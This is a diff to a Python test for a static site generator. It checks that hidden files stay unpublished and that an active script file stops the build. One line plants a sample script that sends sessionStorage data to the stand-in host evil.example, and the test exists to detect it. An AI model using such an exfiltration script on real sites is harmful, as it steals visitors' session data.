@@ -185,9 +185,13 @@ def test_inert_files_are_published_and_an_active_one_stops_the_build(make_site):
              "pic.avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf"}
     for name, data in files.items():
         (root / "content" / name).write_bytes(data)
+    for hidden in ("_drafts/steal.html", ".env", "_notes.js"):  # hidden and underscore names stay unpublished
+        (root / "content" / hidden).parent.mkdir(exist_ok=True)
+        (root / "content" / hidden).write_text("<script>CIRCLEPRESS_SECRET</script>")
     assert _run(root, "build").exit_code == 0
     for name, data in files.items():
         assert (root / "_site" / name).read_bytes() == data
+    assert not any(b"CIRCLEPRESS_SECRET" in p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file())
     before = {p: p.read_bytes() for p in (root / "_site").rglob("*") if p.is_file()}
     (root / "content/steal.html").write_text("<script>fetch('https://evil.example/?' + sessionStorage.key(0))</script>")
     result = _run(root, "build")
